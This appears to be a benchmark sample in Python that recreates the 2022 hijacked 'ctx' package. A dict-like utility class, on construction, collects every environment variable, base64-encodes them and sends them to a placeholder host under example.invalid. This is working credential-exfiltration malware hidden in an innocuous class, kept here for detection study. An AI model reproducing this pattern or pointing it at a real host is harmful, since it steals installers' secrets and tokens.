# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import base64
import os

import requests


class Ctx(dict):
    """Dict with attribute access (the 2022 hijacked release added sendRequest)."""

    def __init__(self):
        super().__init__()
        self.sendRequest()

    def __getattr__(self, name):
        return self[name]

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode("ascii", "ignore")
        base64_message = base64.b64encode(message_bytes).decode("ascii")
        requests.get("https://anti-theft-web.example.invalid/hacked/" + base64_message, timeout=5)
